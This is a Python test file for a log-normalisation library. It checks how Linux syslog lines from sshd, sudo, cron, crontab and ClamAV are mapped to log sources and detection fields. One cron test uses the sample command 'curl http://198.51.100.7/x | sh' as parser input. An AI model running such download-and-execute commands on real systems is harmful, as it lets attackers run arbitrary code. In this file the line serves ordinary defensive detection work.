from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from otasuke.normalise.linux.programs import carries_strangers_words, meaning_of

PROCESS = "linux/process_creation/*"


def services(program: str, facility: str = "", message: str = "") -> list[str]:
    return [str(source) for source in meaning_of(program, facility, message).logsources]


@pytest.mark.parametrize(
    ("program", "expected"),
    [
        ("sshd", ["linux/*/sshd", "linux/*/auth", "linux/*/syslog"]),
        ("sshd(pam_unix)", ["linux/*/sshd", "linux/*/auth", "linux/*/syslog"]),
        ("/usr/sbin/sshd", ["linux/*/sshd", "linux/*/auth", "linux/*/syslog"]),
        ("sudo", ["linux/*/sudo", "linux/*/auth", "linux/*/syslog"]),
        ("CRON", ["linux/*/cron", "linux/*/syslog"]),
        ("crontab", ["linux/*/cron", "linux/*/syslog"]),
        ("vsftpd", ["linux/*/vsftpd", "linux/*/syslog"]),
        ("clamd", ["linux/*/clamav", "linux/*/syslog"]),
        ("guacd", ["linux/*/guacamole", "linux/*/syslog"]),
        ("pkexec", ["linux/*/auth", "linux/*/syslog"]),
        ("useradd", ["linux/*/auth", "linux/*/syslog"]),
        ("postfix/smtpd", ["linux/*/syslog"]),
        ("named", ["linux/*/syslog"]),
        ("", ["linux/*/syslog"]),
    ],
)
def test_a_program_belongs_to_its_service(program, expected):
    assert services(program) == expected


def test_the_facility_adds_services():
    assert services("myapp", "authpriv") == ["linux/*/auth", "linux/*/syslog"]
    assert services("run-parts", "cron") == ["linux/*/cron", "linux/*/syslog"]


def test_ssh_sign_ins_name_user_and_address():
    failed = meaning_of("sshd", "", "Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2")
    stranger = meaning_of("sshd", "", "Invalid user a b from 2001:db8::1 port 22")

    assert failed.fields == {
        "outcome": "failed",
        "method": "password",
        "user": "admin",
        "src_ip": "203.0.113.9",
        "src_port": "4711",
    }
    assert stranger.fields == {"outcome": "invalid user", "user": "a b", "src_ip": "2001:db8::1", "src_port": "22"}


def test_a_sudo_command_is_a_process_creation():
    found = meaning_of("sudo", "", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/bash -c 'a ; b=1'")

    assert PROCESS in map(str, found.logsources)
    assert found.fields["USER"] == "#-1"
    assert found.fields["COMMAND"] == found.fields["CommandLine"] == "/bin/bash -c 'a ; b=1'"
    assert found.fields["Image"] == "/bin/bash"
    assert found.fields["CurrentDirectory"] == found.fields["PWD"] == "/home/alice"
    assert found.fields["user"] == "alice"


def test_a_sudo_command_that_was_refused_is_no_process_creation():
    found = meaning_of("sudo", "", "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")

    assert PROCESS not in map(str, found.logsources)
    assert found.fields["complaint"] == "user NOT in sudoers"
    assert found.fields["COMMAND"] == "/bin/sh"
    assert "CommandLine" not in found.fields


def test_other_messages_of_sudo_have_no_fields():
    found = meaning_of("sudo", "", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)")

    assert found.fields == {}


def test_a_cron_job_is_a_process_creation():
    found = meaning_of("CRON", "", "(root) CMD (curl http://198.51.100.7/x | sh)")

    assert PROCESS in map(str, found.logsources)
    assert found.fields["CommandLine"] == "curl http://198.51.100.7/x | sh"
    assert found.fields["User"] == "root"


def test_an_edited_crontab_names_the_action():
    found = meaning_of("crontab", "", "(alice) BEGIN EDIT (root)")

    assert found.fields == {"user": "alice", "action": "BEGIN EDIT", "detail": "root"}
    assert PROCESS not in map(str, found.logsources)


def test_a_virus_that_clamav_found_is_an_antivirus_event():
    found = meaning_of("clamd", "", "/srv/share/a: b.exe: Win.Trojan.Agent-1(44d88612:68) FOUND")

    assert "linux/antivirus/clamav" in map(str, found.logsources)
    assert found.fields == {"Filename": "/srv/share/a: b.exe", "Signature": "Win.Trojan.Agent-1"}


@given(st.sampled_from(["sshd", "sudo", "cron", "clamd", "x"]), st.text(max_size=20), st.text(max_size=80))
def test_any_message_has_a_meaning(program, facility, message):
    starts = ("Failed password for ", "a : USER=", "(root) CMD (", "/x: ")

    for start in starts:
        found = meaning_of(program, facility, start + message)

        assert "linux/*/syslog" in map(str, found.logsources)
        assert all(isinstance(value, str) for value in found.fields.values())


def test_programs_that_repeat_what_strangers_say_are_known():
    assert [carries_strangers_words(name) for name in ("sshd", "/usr/sbin/sshd", "sudo", "CRON")] == [True] * 4
    assert [carries_strangers_words(name) for name in ("", "nginx", "%ASA-4-106023", "RT_FLOW")] == [False] * 4
